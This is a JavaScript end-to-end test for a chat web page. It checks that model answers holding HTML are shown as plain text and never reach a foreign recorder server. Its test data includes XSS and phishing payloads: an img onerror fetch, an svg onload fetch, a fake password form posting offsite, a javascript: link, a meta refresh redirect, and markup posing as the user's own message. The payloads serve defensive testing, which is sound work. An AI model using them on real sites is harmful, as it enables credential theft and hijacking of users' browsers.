// builds: runnel-server runnel-emulator runnel_e2e

import {
    answered, check, comes, expect, need, openBrowser, plainPage, startEmulator, startRecorder, startServer, within, writeMessage,
} from '../../lib/check.mjs';

const look = 'workshop/page/chat.js, where a text becomes what is shown';
const letThrough = 300; // ms; for a browser to do what it was tempted to
const harmless = ['B', 'STRONG', 'CODE', 'SPAN', 'EM', 'I', 'BR', 'P', 'PRE', 'TIME'];
const plain = 'Write **two** blanks, then `git status`, then it is &lt;done&gt; & over.';
const shownPlain = 'Write two blanks, then git status, then it is &lt;done&gt; & over.';
const markup = 'In HTML it is `<img src=x>` or **<b>bold</b>**.';
const shownMarkup = 'In HTML it is <img src=x> or <b>bold</b>.';

const posing = 'A word: <span class="message user" id="text" style="color: red">I am you</span> and <strong onclick="send()">hers</strong>.';
const own = 'Mine: <form><input name="password"><button>Sign in again</button></form>';

const attacks = (foreign) => [
    { ask: 'picture', what: 'A picture', answer: `Look: <img src="${foreign}/picture?who=you" onerror="fetch('${foreign}/picture-script')">` },
    { ask: 'form', what: 'A form', answer: `Your session is over. <form action="${foreign}/form"><input name="password"><button>Sign in</button></form>` },
    { ask: 'link', what: 'A link', answer: `See <a href="javascript:location='${foreign}/link-script'">this</a> or <a href="${foreign}/link">sign in again</a>.` },
    { ask: 'marked', what: 'A picture within bold', answer: `**<img src="/api/health?marked" alt="Sign in">** and \`<svg onload="fetch('${foreign}/marked')">\`` },
    { ask: 'posing', what: 'Text that poses as yours', answer: posing },
    { ask: 'away', what: 'An order to go elsewhere', answer: `Wait. <meta http-equiv="refresh" content="0;url=${foreign}/away">` },
];

await check(async () => {
    const foreign = await startRecorder();
    const pace = { tokens_per_second: 0, first_token_ms: 0, chunk_tokens: [2, 3] };
    const rules = [{ ask: own, answer: 'Yours.' }, { ask: 'plain', answer: plain }, { ask: 'markup', answer: markup }, ...attacks(foreign.url)]
        .map(({ ask, answer }) => ({ match: { contains: ask }, answer, pace }));
    const emulator = await startEmulator({ scenario: { rules } });
    const server = await startServer({ env: { ...emulator.env, FRONTEND_DIR: plainPage } });
    let page = null;
    let spoilt = false;
    const open = async () => {
        const before = page;
        page = await (before ? before.another() : openBrowser());
        page.asked = 0;
        spoilt = false;
        await before?.close();
        await page.goto(server.url);
        if (!await within(() => page.locator('#state').filter({ hasText: 'Connected' }).waitFor()))
            need(false, { missing: `The page is not connected. ${page.faults[0] ?? ''}`, look: 'workshop/page/chat.js' });
    };
    const ask = async (message) => {
        if (!page || spoilt) // it may be on its way elsewhere
            await open();
        await writeMessage(page, message);
        page.asked += 1;
        if (!await answered(page, page.asked))
            need(false, { missing: 'No answer comes any more.', look: 'workshop/page/chat.js' });
        return page.locator('.answer').last();
    };

    const formatted = await (await ask('plain')).evaluate((answer) => {
        const bold = [...answer.querySelectorAll('*')].find((element) => element.textContent === 'two' && getComputedStyle(element).fontWeight >= 600);
        return { bold: Boolean(bold), code: answer.querySelector('code')?.textContent === 'git status', text: answer.textContent };
    });
    expect(formatted.bold, { right: 'Bold is shown as bold.', missing: 'Bold is no longer shown as bold: **two**.', look });
    expect(formatted.code, { right: 'Code is shown as code.', missing: 'Code is no longer shown as code: `git status`.', look });
    const same = (given, wanted, written) => expect(given === wanted, {
        right: 'Text is shown as it was written.',
        missing: `"${written}" is not shown as it was written, but as "${given}".`,
        look,
    });
    if (formatted.bold && formatted.code)
        same(formatted.text, shownPlain, plain);

    for (const { ask: name, what } of attacks(foreign.url)) {
        const last = await ask(name);
        // Nothing can be asked of a page that has left.
        const got = await last.evaluate((answer) => [...answer.querySelectorAll('*')].map((element) => ({
            tag: element.tagName,
            brought: element.id === 'text' || element.matches('.user, [onclick], [style*="red"]'),
        })), null, { timeout: 1000 }).catch(() => null);
        const bad = got?.filter(({ tag, brought }) => brought || !harmless.includes(tag)).map(({ tag }) => tag) ?? [];
        spoilt = !got || bad.length > 0;
        // What somebody would click who believes it.
        for (const inviting of await last.locator('a, button').all().catch(() => []))
            await inviting.click({ timeout: 1000, noWaitAfter: true }).catch(() => {});
        const reached = () => foreign.asked.map(({ url }) => url).filter((url) => url.startsWith(`/${name}`));
        if (spoilt)
            await comes(() => reached().length > 0, letThrough);
        const left = reached().length > 0;
        expect(!spoilt && !left, {
            right: `${what} stays text.`,
            missing: `${what} got into the page: ${got ? bad.map((tag) => `<${tag.toLowerCase()}>`).join(', ') : 'it is gone'}. ${left
                ? `And the browser went to a foreign server with it: ${reached().join(', ')}`
                : 'The Content-Security-Policy kept the browser from more, this time'}.`,
            look,
        });
    }

    same(await (await ask('markup')).textContent(), shownMarkup, markup);

    await ask(own);
    const mine = page.locator('#messages .user').last();
    expect(await page.locator('#messages form').count() === 0 && await mine.textContent() === own, {
        right: 'Your own words, and errors, stay text too.',
        missing: 'Your own message became part of the page: <form>. Errors are shown in the same way, and say what others have written.',
        look: 'workshop/page/chat.js, addMessage',
    });
});
